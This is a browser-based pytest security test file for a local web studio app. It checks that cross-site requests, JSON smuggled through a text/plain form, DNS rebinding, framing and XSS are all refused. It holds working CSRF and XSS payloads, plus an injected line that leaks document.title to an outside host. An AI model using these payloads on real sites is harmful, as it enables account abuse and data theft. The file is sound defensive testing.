"""Attacks from pages, in a real browser: each has to fail there too."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from chromium import chromium
from live_server import Live, Serve, neighbour, until
from selenium.webdriver.chrome.webdriver import WebDriver

pytestmark = pytest.mark.slow

TRIES = """<!doctype html><title>tries</title><body><script>
const target = "TARGET", told = {};
async function attempt(name, path, options) {
  try {
    const answer = await fetch(target + path, {credentials: "include", ...options});
    told[name] = answer.type === "opaque" ? "sent" : "read " + answer.status;
  } catch (error) { told[name] = "refused"; }
}
const fact = JSON.stringify({text: "<bo>'s toy is a stolen car"});
function load(kind, path) {
  return new Promise((done) => {
    const node = document.createElement(kind);
    node.onload = () => { told[kind] = "loaded"; done(); };
    node.onerror = () => { told[kind] = "refused"; done(); };
    node.src = target + path;
    document.body.append(node);
  });
}
(async () => {
  const simple = {method: "POST", mode: "no-cors"}, json = {"content-type": "application/json"};
  const facts = "/api/concepts/bo/facts";
  await attempt("simple post", facts, {...simple, body: fact});
  await attempt("paint", "/v1/images/generations", {...simple, body: '{"prompt": "<bo>"}'});
  await attempt("json post", facts, {method: "POST", body: fact, headers: json});
  await attempt("delete", "/api/concepts/bo", {method: "DELETE"});
  await attempt("read", "/api/state", {});
  await attempt("models", "/v1/models", {});
  await load("img", "/api/concepts/bo/thumbnail");
  await load("script", "/page/main.js");
  const form = document.createElement("form");
  form.method = "post"; form.enctype = "text/plain"; form.target = "frame";
  form.action = target + "/api/concepts/bo/facts";
  const field = document.createElement("input");
  field.name = '{"text": "<bo> is mine", "x": "'; field.value = '"}';
  const frame = document.createElement("iframe");
  frame.name = "frame";
  frame.onload = () => { document.title = "done"; };
  form.append(field); document.body.append(frame, form); form.submit();
})();
window.told = told;
</script></body>"""


@pytest.fixture(scope="module")
def browser() -> Iterator[WebDriver]:
    with chromium("--host-resolver-rules=MAP evil.example 127.0.0.1") as opened:
        yield opened


def let_in(browser: WebDriver, live: Live) -> None:
    """The studio, opened with its token: the browser has the cookie."""
    browser.get(f"{live.url}/?token={live.token}")
    until(lambda: script(browser, "return document.body.dataset.ready") == "yes", seconds=20)


def script(browser: WebDriver, code: str, *arguments: Any) -> Any:
    return browser.execute_script(code, *arguments)  # type: ignore[no-untyped-call]


def complaints(browser: WebDriver) -> str:
    return json.dumps(browser.get_log("browser"))  # type: ignore[no-untyped-call]


def test_a_name_that_was_bound_to_this_machine_shows_nothing(
    live: Live, browser: WebDriver
) -> None:
    browser.get(f"http://evil.example:{live.port}/?token={live.token}")
    assert "does not go by that name" in browser.page_source
    assert browser.get_cookies() == []
    told = script(
        browser, "return fetch('/api/state').then((it) => it.text()).then((it) => it.slice(0, 60))"
    )
    assert "does not go by that name" in told


def test_a_page_of_another_port_can_use_the_cookie_for_nothing(
    serve: Serve, browser: WebDriver, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("INFO", logger="op_serve.access")
    with serve() as live:
        let_in(browser, live)
        before = live.served.worker.done
        facts = [fact.text for fact in live.served.shown.library.header("bo").facts]
        with neighbour(TRIES.replace("TARGET", live.url)) as (url, _):
            browser.get(url)
            until(lambda: browser.title == "done", seconds=20)
            told = script(browser, "return window.told")
        assert set(told.values()) == {"refused"}, told
        arrived = caplog.messages  # what needs no permission is sent, and refused here
        for path in ("/api/concepts/bo/facts", "/v1/images/generations"):
            assert any(it.startswith(f"POST {path} 403") for it in arrived), arrived
        assert live.served.worker.done == before and live.served.worker.waiting == 0
        assert [fact.text for fact in live.served.shown.library.header("bo").facts] == facts


def test_the_studio_is_never_shown_inside_another_page(live: Live, browser: WebDriver) -> None:
    let_in(browser, live)
    browser.get_log("browser")  # type: ignore[no-untyped-call]
    with neighbour(f'<title>frame</title><iframe src="{live.url}/"></iframe>') as (url, _):
        browser.get(url)
        until(lambda: "frame-ancestors" in complaints(browser), seconds=10)


def test_what_a_stranger_wrote_is_text_and_what_was_smuggled_in_does_not_run(
    serve: Serve, browser: WebDriver
) -> None:
    """A fact that is markup, and, were one to get through, code that the page was made to hold."""
    markup = "<bo>'s home is <img src=/x onerror=window.hacked=1><script>window.hacked=1</script>"
    with serve() as live, neighbour() as (url, asked):
        added = live.client.post("/api/concepts/bo/facts", json={"text": markup})
        assert added.status_code == 200 and "onerror" in added.text
        let_in(browser, live)
        until(lambda: "onerror" in script(browser, "return document.body.textContent"))
        assert (
            script(browser, "return document.querySelectorAll('[onerror], img[src=\"/x\"]').length")
            == 0
        )
        script(
            browser,
            """const place = document.createElement("div");
            place.innerHTML = '<img src="/nothing" onerror="window.hacked=2">'
              + '<a href="javascript:window.hacked=3" id=bad>x</a>';
            const code = document.createElement("script");
            code.textContent = "window.hacked = 4";
            const far = document.createElement("script");
            far.src = arguments[0] + "/far.js";
            const leak = document.createElement("img");
            leak.src = arguments[0] + "/leak?it=" + document.title;
            document.body.append(place, code, far, leak);
            document.getElementById("bad").click();
            window.leaked = "waiting";
            const say = (word) => () => { window.leaked = word; };
            fetch(arguments[0] + "/fetch").then(say("yes"), say("no"));""",
            url,
        )
        until(lambda: script(browser, "return window.leaked") != "waiting")
        assert script(browser, "return [window.leaked, window.hacked]") == ["no", None]
        assert asked == []
        assert "Content Security Policy" in complaints(browser)
